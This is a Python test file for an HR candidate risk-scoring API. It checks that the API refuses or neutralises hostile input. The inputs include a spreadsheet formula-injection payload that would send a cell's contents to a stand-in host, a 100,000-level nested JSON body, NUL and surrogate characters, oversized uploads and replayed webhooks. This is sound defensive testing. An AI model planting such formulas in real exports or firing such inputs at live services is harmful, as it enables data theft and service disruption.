"""Hostile and careless input: each case of issue 14's list, kept as a test of its class.

Out-of-range instants at every entry and in the store, stale lists after writes,
unbounded days, formula cells in exports, webhook replays, and the 500s that
must be 4xx, with error bodies that never echo what was sent.
"""

from __future__ import annotations

import base64
import datetime as dt
import io
import json
import threading
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, text

from config import get_settings
from serving import scorer as scorer_module
from serving.greenhouse import sign
from serving.main import create_app
from serving.scorer import Scorer
from serving.users import create_user
from tests.conftest import run_cli, run_daily
from tests.serving.conftest import DAY, Keys, Shared, auth
from tests.serving.test_greenhouse import SECRET, URL, add_candidate, deliver, fixture
from training.config import load_config
from training.predictor import Predictor
from training.tracking import load_champion

PASSWORD = "a-long-password-1"


def _ids(client: TestClient, keys: Keys) -> list[str]:
    body = client.get(
        "/v1/risk-list", params={"as_of": DAY.isoformat(), "limit": 500}, headers=auth(keys.lead)
    ).json()
    return [r["candidate_id"] for r in body["rows"]]


def _event(cid: str, ts: str, n: int = 0, **extra: object) -> dict[str, object]:
    return {
        "event_id": f"hostile-{n}",
        "candidate_id": cid,
        "ts": ts,
        "type": "message_replied",
        "actor": "candidate",
        **extra,
    }


# --- instants outside any plausible range ---------------------------------------------------


@pytest.mark.parametrize("ts", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00"])
def test_out_of_range_instants_are_refused_by_the_api(shared: Shared, ts: str) -> None:
    client, keys = shared.client, shared.keys
    cid = _ids(client, keys)[0]
    r = client.post("/v1/events", json=[_event(cid, ts)], headers=auth(keys.ats))
    assert r.status_code == 422
    problem = r.json()["error"]["problems"][0]
    assert (problem["index"], problem["field"]) == (0, "ts")
    assert "between" in problem["message"] and ts not in r.text
    # and everyone's scores still work
    assert client.get("/v1/risk-list", headers=auth(keys.lead)).status_code == 200


def test_out_of_range_instants_and_dates_are_refused_in_a_bundle(
    sample_copy: Path, keepwarm_home: Path
) -> None:
    events = (sample_copy / "events.csv").read_text(encoding="utf-8").splitlines()
    header, first = events[0].split(","), events[1].split(",")
    first[header.index("ts")] = "0001-01-01T00:00:00+14:00"
    (sample_copy / "events.csv").write_text(
        "\n".join([events[0], ",".join(first), *events[2:]]) + "\n", encoding="utf-8"
    )
    done = run_cli("ingest", str(sample_copy), home=keepwarm_home)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "events.csv, row 2, column ts" in done.stderr and "between" in done.stderr


def test_an_offer_start_date_out_of_range_is_refused_from_the_webhook(shared: Shared) -> None:
    client = shared.client
    r = deliver(client, fixture("offer_created", payload__start_date="01/01/0001"), "evt-old")
    assert r.status_code == 422 and "start_date" in r.json()["error"]["message"]


def test_one_bad_row_in_the_store_breaks_nobody(
    client: TestClient, keys: Keys, engine: Engine
) -> None:
    """Rows from before the entries refused them (or a hand-made write) are never read."""
    cid = _ids(client, keys)[0]
    with engine.begin() as conn:
        for n, (ts, day) in enumerate(
            [("0000-12-31 10:00:00.000000", "0000-12-31"), ("10000-01-01 11:59:59", "9999-12-31")]
        ):
            conn.execute(
                text(
                    "INSERT INTO events (event_id, candidate_id, ts_utc, utc_offset_min, "
                    "local_day, type, actor) VALUES (:e, :c, :t, 840, :d, 'message_replied', "
                    "'candidate')"
                ),
                {"e": f"bad-{n}", "c": cid, "t": ts, "d": day},
            )
    client.app.state.service.scorer.reset()  # type: ignore[attr-defined]
    day = DAY.isoformat()
    assert client.get("/v1/risk-list", params={"as_of": day}, headers=auth(keys.lead)).is_success
    scored = client.post(
        "/v1/score", json={"candidate_ids": [cid], "as_of": day}, headers=auth(keys.lead)
    )
    assert scored.status_code == 200 and scored.json()["results"]
    detail = client.get(f"/v1/candidates/{cid}", params={"as_of": day}, headers=auth(keys.lead))
    assert detail.status_code == 200
    run_daily(engine, DAY)  # the daily batch, alerts and plans too


# --- the risk list sees writes at once -------------------------------------------------------


def test_the_risk_list_sees_a_write_without_a_score_call(client: TestClient, keys: Keys) -> None:
    day = DAY.isoformat()
    params = {"as_of": day, "limit": 500}

    def listed() -> dict[str, float]:
        rows = client.get("/v1/risk-list", params=params, headers=auth(keys.lead)).json()["rows"]
        return {r["candidate_id"]: r["risk"] for r in rows}

    before = listed()
    riskiest = sorted(before, key=lambda c: -before[c])[:5]
    replies = [_event(c, f"{day}T10:00:00+08:00", n) for n, c in enumerate(riskiest)]
    assert client.post("/v1/events", json=replies, headers=auth(keys.ats)).status_code == 200
    after = listed()
    changed = [c for c in riskiest if after[c] != before[c]]
    assert changed, "the list still shows the risks from before the replies"
    # the list and a score request agree, without a score request having refreshed the list
    scored = client.post(
        "/v1/score", json={"candidate_ids": changed, "as_of": day}, headers=auth(keys.lead)
    ).json()["results"]
    assert {r["candidate_id"]: r["risk"] for r in scored} == {c: after[c] for c in changed}


# --- bounded cost per request ----------------------------------------------------------------


@pytest.mark.parametrize("as_of", ["9999-12-31", "0001-01-01", "1999-01-01"])
def test_days_outside_the_data_and_today_are_refused(shared: Shared, as_of: str) -> None:
    client, keys = shared.client, shared.keys
    cid = _ids(client, keys)[0]
    lead = auth(keys.lead)
    answers = [
        client.post("/v1/score", json={"candidate_ids": [cid], "as_of": as_of}, headers=lead),
        client.get("/v1/risk-list", params={"as_of": as_of}, headers=lead),
        client.get(f"/v1/candidates/{cid}", params={"as_of": as_of}, headers=lead),
        client.get(f"/v1/candidates/{cid}/explanation", params={"as_of": as_of}, headers=lead),
    ]
    for r in answers:
        assert r.status_code == 422, r.request.url
        assert r.json()["error"]["problems"][0]["field"] == "as_of"
    assert dt.date(9999, 12, 31) not in client.app.state.service.scorer.cached_days()  # type: ignore[attr-defined]


def test_the_console_refuses_days_outside_the_data(
    client: TestClient, keys: Keys, engine: Engine
) -> None:
    create_user(engine, "lena", "lead", PASSWORD)
    cid = _ids(client, keys)[0]
    page = client.get("/login")
    token = page.cookies.get("kw_login_csrf") or client.cookies.get("kw_login_csrf")
    signed = client.post(
        "/login",
        data={"name": "lena", "password": PASSWORD, "csrf_token": token, "next": "/today"},
        follow_redirects=False,
    )
    assert signed.status_code == 303
    for path in (
        f"/candidates/{cid}?as_of=9999-12-31",
        "/risk?as_of=0001-01-01",
        "/risk.csv?as_of=9999-12-31",
    ):
        assert client.get(path).status_code == 400, path
    ok = client.get(f"/candidates/{cid}?as_of={DAY}")
    assert ok.status_code == 200 and len(ok.content) < 2_000_000


def test_a_cold_day_being_built_does_not_hold_up_a_built_day(
    served_home: Path, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    scorer = Scorer(engine, load_config().rules)
    model, version = load_champion(get_settings())
    scorer.set_model(Predictor.of(model, version))
    warm = scorer.day(DAY)
    cold_day = DAY - dt.timedelta(days=30)
    entered, release = threading.Event(), threading.Event()
    real = scorer_module.build_day

    def slow_build(engine: Engine, as_of: dt.date, *args: object, **kw: object):  # type: ignore[no-untyped-def]
        if as_of == cold_day:
            entered.set()
            release.wait(120)
        return real(engine, as_of, *args, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(scorer_module, "build_day", slow_build)
    cold = threading.Thread(target=scorer.day, args=(cold_day,))
    cold.start()
    try:
        assert entered.wait(60)
        done: list[object] = []

        def read() -> None:
            # a write for someone on the built day: reading it now needs a (small) rebuild
            scorer.touch({str(warm.ids[0])})
            done.append(scorer.day(DAY))

        reader = threading.Thread(target=read)
        reader.start()
        reader.join(30)  # a deadlock detector, not a speed limit
        assert done, "a request for a built day waited on a cold day's build"
    finally:
        release.set()
        cold.join(120)
        reader.join(120)
    assert cold_day in scorer.cached_days() and done[0] is not warm


# --- spreadsheets ----------------------------------------------------------------------------


def test_formula_cells_stay_text_in_exports(client: TestClient, keys: Keys, engine: Engine) -> None:
    cid = _ids(client, keys)[0]
    with engine.connect() as conn:
        row = conn.execute(
            text("SELECT season, hr_owner FROM candidates WHERE candidate_id = :c"), {"c": cid}
        ).one()
    evil = '=HYPERLINK("http://x/?"&A2,"Click")'
    profile = {"candidate_id": cid, "season": row.season, "hr_owner": row.hr_owner,
               "department": evil}  # fmt: skip
    assert client.post("/v1/candidates", json=[profile], headers=auth(keys.ats)).is_success
    create_user(engine, "lena", "lead", PASSWORD)
    page = client.get("/login")
    token = client.cookies.get("kw_login_csrf")
    client.post("/login", data={"name": "lena", "password": PASSWORD, "csrf_token": token})
    csv_text = client.get(f"/risk.csv?as_of={DAY}").content.decode("utf-8-sig")
    assert f"'{evil}".replace('"', '""') in csv_text
    assert "\n" + evil not in csv_text and "," + evil not in csv_text
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"/risk.xlsx?as_of={DAY}").content))
    sheet = book.active
    assert sheet is not None
    cells = [c for row_ in sheet.iter_rows() for c in row_ if isinstance(c.value, str)]
    assert not [c for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + evil for c in cells)
    assert page.status_code == 200


# --- the webhook -----------------------------------------------------------------------------


def test_an_empty_webhook_secret_leaves_the_webhook_off(
    served_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KEEPWARM_GREENHOUSE_SECRET", "")
    monkeypatch.setenv("KEEPWARM_MODEL_POLL_SECONDS", "0")
    get_settings.cache_clear()
    with TestClient(create_app(get_settings())) as c:
        raw = json.dumps(fixture("offer_created")).encode()
        r = c.post(URL, content=raw, headers={"Signature": sign(b"", raw)})
        assert r.status_code == 403


def test_a_replayed_old_delivery_changes_nothing(
    client: TestClient, keys: Keys, engine: Engine
) -> None:
    add_candidate(client, keys, "gh-13857579")
    deliver(client, fixture("application_updated", payload__application__id=234556), "evt-app")
    old = fixture("offer_created", payload__start_date="04/15/2013")
    assert deliver(client, old, "evt-1").json()["status"] == "applied"
    newer = fixture("offer_updated", payload__start_date="09/01/2013")
    assert deliver(client, newer, "evt-2").json()["status"] in ("applied", "ignored")

    def start() -> str:
        with engine.connect() as conn:
            return str(
                conn.execute(
                    text("SELECT start_date FROM candidates WHERE candidate_id = 'gh-13857579'")
                ).scalar_one()
            )

    assert start() == "2013-09-01"
    # the old signed body again, under a new event id and under none: a duplicate
    raw = json.dumps(old).encode()
    for headers in ({"Greenhouse-Event-ID": "evt-new"}, {}):
        r = client.post(URL, content=raw, headers={"Signature": sign(SECRET, raw), **headers})
        assert r.json()["status"] == "duplicate"
    assert start() == "2013-09-01"
    # an older version of the offer, never seen before (out of order): ignored
    stale = fixture("offer_approved", payload__start_date="05/05/2013")
    assert deliver(client, stale, "evt-3").json()["status"] == "ignored"
    assert start() == "2013-09-01"
    # every write is in the audit log, as the API's own writes are
    client.app.state.service.reads.flush()  # type: ignore[attr-defined]
    with engine.connect() as conn:
        logged = conn.execute(
            text(
                "SELECT count(*) FROM audit_log WHERE actor = 'webhook:greenhouse' "
                "AND candidate_id = 'gh-13857579'"
            )
        ).scalar_one()
    assert logged >= 2


def test_a_deeply_nested_signed_body_is_refused(shared: Shared) -> None:
    client = shared.client
    raw = b'{"action": "ping", "payload": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    r = client.post(URL, content=raw, headers={"Signature": sign(SECRET, raw)})
    assert r.status_code == 422


# --- what must be 4xx, and error bodies that echo nothing ------------------------------------


def test_malformed_requests_get_4xx_not_500(shared: Shared) -> None:
    client, keys = shared.client, shared.keys
    lead = auth(keys.lead)
    infinity = base64.urlsafe_b64encode(b'{"o": Infinity, "d": "2024-12-02"}').decode()
    r = client.get(
        "/v1/risk-list", params={"as_of": DAY.isoformat(), "cursor": infinity}, headers=lead
    )
    assert r.status_code == 400
    surrogate = b'{"candidate_ids": ["\\ud800"], "as_of": "2024-12-02"}'
    r = client.post(
        "/v1/score", content=surrogate, headers={**lead, "Content-Type": "application/json"}
    )
    assert r.status_code == 422
    huge = "x" * 1_000_000
    r = client.post("/v1/score", json={"candidate_ids": [huge]}, headers=lead)
    assert r.status_code in (413, 422) and huge[:100] not in r.text
    r = client.get("/v1/alerts", params={"owner": "hr01\x00"}, headers=lead)
    assert r.status_code in (400, 422)

    def chunks():  # type: ignore[no-untyped-def]
        for _ in range(9):
            yield b" " * (1024 * 1024)

    r = client.post(
        "/v1/events",
        content=chunks(),
        headers={**auth(keys.ats), "Content-Type": "application/json"},
    )
    assert r.status_code == 413


def test_error_bodies_never_echo_what_was_sent(shared: Shared) -> None:
    client, keys = shared.client, shared.keys
    marker = "ECHO-MARKER-5521"
    bad = [
        {"event_id": "e-1", "candidate_id": marker, "ts": "2024-12-01T10:00:00+08:00",
         "type": "message_replied"},
        {"event_id": "e-2", "candidate_id": "K1", "ts": marker, "type": "message_replied"},
    ]  # fmt: skip
    for item in bad:
        r = client.post("/v1/events", json=[item], headers=auth(keys.ats))
        assert r.status_code == 422 and marker not in r.text, r.text
    r = client.post("/v1/events", json=[{**bad[0], "type": marker}], headers=auth(keys.ats))
    assert r.status_code == 422 and marker not in r.text


def test_nul_characters_are_refused_before_postgresql_sees_them(
    pg_server: object, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = pg_server.create_database()  # type: ignore[attr-defined]
    monkeypatch.setenv("KEEPWARM_DATABASE_URL", url)
    monkeypatch.setenv("KEEPWARM_MODEL_POLL_SECONDS", "0")
    get_settings.cache_clear()
    from serving.auth import create_key
    from store.db import open_store

    key = create_key(open_store(get_settings()), "ats").key
    with TestClient(create_app(get_settings()), raise_server_exceptions=False) as c:
        profile = {"candidate_id": "c-nul", "season": "2024-autumn", "hr_owner": "hr01",
                   "school": "清华\x00大学"}  # fmt: skip
        r = c.post("/v1/candidates", json=[profile], headers=auth(key))
        assert r.status_code == 422 and "NUL" in r.text and "清华" not in r.text
        assert c.get("/v1/candidates/c%00x", headers=auth(key)).status_code == 400
        c.get("/login")
        token = c.cookies.get("kw_login_csrf")
        signed = c.post(
            "/login", data={"name": "a\x00b", "password": "x" * 12, "csrf_token": token}
        )
        assert signed.status_code == 401


@pytest.mark.scored_day  # DAY's alerts and plan
def test_schema_times_carry_their_offset_and_answers_are_not_cached(
    client: TestClient, keys: Keys
) -> None:
    alerts = client.get("/v1/alerts", params={"state": "all"}, headers=auth(keys.lead))
    assert alerts.headers["cache-control"] == "no-store"
    rows = alerts.json()["rows"]
    assert rows and all(r["created_at"].endswith(("Z", "+00:00")) for r in rows)
    plan = client.get(
        "/v1/outreach-plan", params={"date": DAY.isoformat()}, headers=auth(keys.lead)
    )
    action = next(a for a in plan.json()["actions"] if not a["automatic"])
    done = client.post(f"/v1/actions/{action['action_id']}/done", headers=auth(keys.lead)).json()
    assert done["done_at"].endswith(("Z", "+00:00"))


def test_the_docs_load_nothing_from_another_site(shared: Shared) -> None:
    client = shared.client
    page = client.get("/docs")
    assert page.status_code == 200
    assert "cdn." not in page.text and "https://" not in page.text.split("<body>")[0]
    for src in ("swagger-ui-bundle.js", "swagger-ui.css"):
        path = next(p for p in page.text.split('"') if p.endswith(src))
        assert client.get(path).status_code == 200
